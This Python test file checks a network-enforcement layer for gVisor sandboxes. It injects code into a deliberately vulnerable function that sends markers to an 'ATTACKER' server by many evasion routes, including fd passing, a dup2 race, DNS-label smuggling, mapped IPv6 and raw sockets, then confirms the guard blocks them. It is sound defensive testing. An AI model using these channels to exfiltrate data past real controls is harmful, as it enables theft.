"""Every way of sending that a Python program has: stock gVisor delivers each marker, an enforced sandbox none.

The exploited function sends a marker of its own by each way, to a server that is in no policy and to a listed peer (the
gateway, where connecting is allowed and the message is not). The evidence is outside of the sandbox: what the servers
received, and the packets on the bridge.
"""

import json
import secrets
import selectors
import socket
import subprocess
import tempfile
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any, cast

import pytest

from .conftest import Gateway, until
from .test_enforcement import ATTACKER, RECEIVE, SUCCESS, exploit

BRIDGE = "kalium0"
PEER = ("10.137.0.1", 8080)  # the gateway, as functions reach it

STREAMS = ("send", "sendmsg", "sendmmsg", "writev", "sendfile", "splice", "fastopen", "oob", "fork", "inherited", "passed", "mapped")
TO_STRANGER = tuple(f"{way} to a stranger" for way in STREAMS)
TO_PEER = tuple(f"{way} to a peer" for way in (*STREAMS, "race"))
DATAGRAMS = ("udp", "connected udp", "udp mapped", "name")
NOWHERE = ("raw", "packet")  # sockets that gVisor gives no function
WAYS = (*TO_STRANGER, *TO_PEER, *DATAGRAMS, *NOWHERE)

# Runs inside of the sandbox. `names` and `markers` come in front of it.
SEND = r"""
import ctypes, errno, json, os, socket, struct, tempfile, threading, time

def dial(to, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(30)
    s.connect(to)
    return s

def sendmmsg(s, data):
    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_char_p), ("length", ctypes.c_size_t)]
    class Header(ctypes.Structure):
        _fields_ = [("name", ctypes.c_void_p), ("name_length", ctypes.c_uint32), ("vectors", ctypes.POINTER(Vector)), ("count", ctypes.c_size_t),
                    ("control", ctypes.c_void_p), ("control_length", ctypes.c_size_t), ("flags", ctypes.c_int), ("sent", ctypes.c_uint)]
    vector = Vector(data, len(data))
    header = Header(vectors=ctypes.pointer(vector), count=1)
    s.setblocking(True)
    if ctypes.CDLL(None, use_errno=True).sendmmsg(s.fileno(), ctypes.byref(header), 1, 0) != 1:
        raise OSError(ctypes.get_errno(), "sendmmsg")

def sendfile(s, data):
    with tempfile.TemporaryFile() as file:
        file.write(data)
        file.flush()
        os.sendfile(s.fileno(), file.fileno(), 0, len(data))

def splice(s, data):
    s.setblocking(True)
    readable, writable = os.pipe()
    os.write(writable, data)
    os.splice(readable, s.fileno(), len(data))

def wait_for(child):
    status = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if status:
        raise OSError(status, "in the child")

def child(work):
    pid = os.fork()
    if pid == 0:
        try:
            work()
        except OSError as error:
            os._exit(error.errno or 255)
        os._exit(0)
    wait_for(pid)

def run(way, data, to):
    if way == "fork":
        return child(lambda: dial(to).sendall(data))
    if way == "mapped":
        return dial(("::ffff:" + to[0], to[1]), socket.AF_INET6).sendall(data)
    s = dial(to)
    if way == "race":
        return race(s, data)
    if way == "inherited":
        os.set_inheritable(s.fileno(), True)
        program = "import os,sys\ntry: os.write(int(sys.argv[1]), sys.argv[2].encode())\nexcept OSError as e: sys.exit(e.errno)"
        arguments = [os.sys.executable, "-c", program, str(s.fileno()), data.decode()]
        s.setblocking(True)
        return wait_for(os.posix_spawn(os.sys.executable, arguments, dict(os.environ)))
    if way == "passed":
        here, there = socket.socketpair()
        socket.send_fds(here, [b"x"], [s.fileno()])
        s.close()
        received = socket.recv_fds(there, 1, 1)[1][0]
        try:
            return os.write(received, data)
        finally:
            os.close(received)
    ways = {
        "send": lambda: s.sendall(data), "sendmsg": lambda: s.sendmsg([data]), "sendmmsg": lambda: sendmmsg(s, data),
        "writev": lambda: os.writev(s.fileno(), [data[:5], data[5:]]), "sendfile": lambda: sendfile(s, data),
        "splice": lambda: splice(s, data), "fastopen": lambda: s.sendto(data, 0x20000000, to), "oob": lambda: s.send(data, socket.MSG_OOB),
    }
    ways[way]()

def race(s, data):
    '''One thread writes to a descriptor that is a pipe and the socket in turn.'''
    s.setblocking(True)
    readable, writable = os.pipe()
    os.set_blocking(readable, False)
    os.set_blocking(writable, False)
    target, end = os.dup(writable), time.monotonic() + 2
    def change():
        while time.monotonic() < end:
            os.dup2(s.fileno(), target)
            os.dup2(writable, target)
            try:
                os.read(readable, 65536)
            except BlockingIOError:
                pass
    changer = threading.Thread(target=change)
    changer.start()
    while time.monotonic() < end:
        try:
            os.write(target, data)
        except OSError:
            pass
    changer.join()

def datagram(way, data, to):
    if way == "name":
        query = b"\x12\x34\x01\x00\x00\x01" + bytes(6) + bytes([len(data)]) + data + b"\x04test\x00\x00\x01\x00\x01"
        return socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, (to[0], 53))
    if way == "udp mapped":
        return socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(data, ("::ffff:" + to[0], to[1]))
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    if way == "udp":
        return s.sendto(data, to)
    s.connect(to)
    s.send(data)

def raw(way, data, to):
    if way == "raw":
        return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP).sendto(struct.pack("!HHHH", 9, 9, 8 + len(data), 0) + data, to)
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).sendto(b"\xff" * 12 + b"\x08\x00" + data, ("eth0", 0))

results = {}
for name, backwards in markers.items():
    marker = backwards[::-1]
    way, _, to = name.partition(" to a ")
    try:
        if to:
            run(way, marker.encode(), peer if to == "peer" else stranger)
        elif way in ("raw", "packet"):
            raw(way, marker.encode(), stranger)
        else:
            datagram(way, marker.encode(), stranger)
        results[name] = "ok"
    except OSError as error:
        results[name] = errno.errorcode.get(error.errno, str(error))

from watchdog import Failure
raise Failure(418, json.dumps({"end": end[::-1], **results}))
"""


class Stranger:
    """A server that is in no policy, for connections and datagrams alike. It keeps what it got."""

    def __init__(self) -> None:
        self.streams = b""
        self.datagrams = b""
        self._selector = selectors.DefaultSelector()
        self._listener = socket.create_server(ATTACKER)
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._socket.bind(ATTACKER)
        self._open = True
        for sock in (self._listener, self._socket):
            self._selector.register(sock, selectors.EVENT_READ)
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while (ready := self._selector.select(timeout=0.2)) or self._open:  # what has come is taken before it ends
            for key, _ in ready:
                self._take(cast(socket.socket, key.fileobj))

    def _take(self, sock: socket.socket) -> None:
        if sock is self._listener:
            connection, _ = sock.accept()
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_OOBINLINE, 1)
            self._selector.register(connection, selectors.EVENT_READ)
            return
        try:
            data = sock.recv(65536)
        except ConnectionResetError:
            data = b""
        if sock is self._socket:
            self.datagrams += data
        elif data:
            self.streams += data
        else:
            self._selector.unregister(sock)
            sock.close()

    def close(self) -> None:
        self._open = False
        self._thread.join(timeout=10)
        assert not self._thread.is_alive()
        for key in list(self._selector.get_map().values()):
            cast(socket.socket, key.fileobj).close()
        self._selector.close()


@contextmanager
def captured(path: Path) -> Iterator[None]:
    """Write all packets of the bridge to `path` meanwhile, each as soon as it was seen."""
    command = ["tcpdump", "-i", BRIDGE, "-n", "-s", "0", "-U", "-B", "16384", "-Z", "root", "-w", str(path)]
    with subprocess.Popen(command, stderr=subprocess.DEVNULL) as tcpdump:
        try:
            until(lambda: path.exists() and path.stat().st_size > 0, "tcpdump")
            yield
        finally:
            tcpdump.terminate()


@dataclass(frozen=True)
class Evidence:
    """What one system did with the markers."""

    markers: dict[str, str]
    results: dict[str, str]  # what the function saw
    streams: bytes
    datagrams: bytes
    packets: bytes

    def left(self, way: str) -> list[str]:
        """Where the marker of a way was seen outside of the sandbox."""
        marker = self.markers[way].encode()
        places = {"stream server": self.streams, "datagram server": self.datagrams, "packets": self.packets}
        return [place for place, seen in places.items() if marker in seen]


def collect(gateway: Gateway, folder: Path, runtime: str, app: str) -> Evidence:
    """Deploy the vulnerable function and have it send by all ways in one invocation."""
    markers = {way: secrets.token_hex(16) for way in WAYS}
    end = secrets.token_hex(16)
    # Backwards, because the request itself crosses the bridge.
    backwards = {way: marker[::-1] for way, marker in markers.items()}
    header = f"markers = {backwards!r}\nend = {end[::-1]!r}\nstranger = {ATTACKER!r}\npeer = {PEER!r}\n"
    gateway.deploy(RECEIVE, runtime=runtime, app=app, image=f"attack/{RECEIVE}")
    stranger = Stranger()
    path = folder / f"{runtime}.pcap"
    try:
        with captured(path):
            reply = gateway.invoke(RECEIVE, exploit({}, header + SEND))
            assert reply.status == 418, reply
            # The answer was sent last, so when the capture holds it, it holds all that came before.
            until(lambda: end.encode() in path.read_bytes(), "the answer in the capture")
    finally:
        stranger.close()
    return Evidence(markers, json.loads(json.loads(reply.body)["error"]), stranger.streams, stranger.datagrams, path.read_bytes())


@pytest.fixture(scope="module")
def systems(gateway: Gateway) -> Iterator[tuple[Evidence, Evidence]]:
    """The evidence of stock gVisor and of enforcement, in this order."""
    with tempfile.TemporaryDirectory() as folder:
        try:
            yield collect(gateway, Path(folder), "stock", ""), collect(gateway, Path(folder), "kalium", "hello-retail")
        finally:
            gateway.remove(RECEIVE)


@pytest.mark.parametrize("way", [*TO_STRANGER, *TO_PEER, *DATAGRAMS])
def test_a_marker_leaves_stock_gvisor_and_no_enforced_sandbox(systems: tuple[Evidence, Evidence], way: str) -> None:
    """The same code with and without the guard."""
    stock, enforced = systems
    assert "packets" in stock.left(way), f"the way does not work on stock gVisor either: {stock.results[way]}"
    assert enforced.left(way) == [], enforced.results[way]


@pytest.mark.parametrize("way", [*TO_STRANGER, "udp", "connected udp", "udp mapped"])
def test_the_stranger_received_it_from_stock_gvisor(systems: tuple[Evidence, Evidence], way: str) -> None:
    """The receivers work: their silence under enforcement means something."""
    stock, _ = systems
    assert len(stock.left(way)) == 2, stock.left(way)


@pytest.mark.parametrize("way", [*TO_STRANGER, *TO_PEER, *DATAGRAMS])
def test_the_function_is_told(systems: tuple[Evidence, Evidence], way: str) -> None:
    """A refused way is an error for the program, except where it cannot be or the guard itself answers."""
    stock, enforced = systems
    assert stock.results[way] == "ok"
    quiet = {"race to a peer", "name"}
    assert enforced.results[way] == ("ok" if way in quiet else "EPERM")


@pytest.mark.parametrize("way", NOWHERE)
def test_sockets_that_write_packets_exist_nowhere(systems: tuple[Evidence, Evidence], way: str) -> None:
    """On both systems alike, so that nothing here rests on the guard."""
    for evidence in systems:
        assert evidence.results[way] in {"EPERM", "EAFNOSUPPORT"}
        assert evidence.left(way) == []


def test_the_health_path_of_a_function_that_is_no_entry_is_no_way_to_it(gateway: Gateway, deployed: Any) -> None:
    """The gateway passes every path on; only the engine's own requests are probes."""
    deployed(SUCCESS, runtime="kalium", app="hello-retail-strict")

    reply = gateway.request("GET", f"/function/{SUCCESS}/_/health")

    assert reply.status == 403, reply
    assert json.loads(reply.body)["error"] == "not_an_entry"
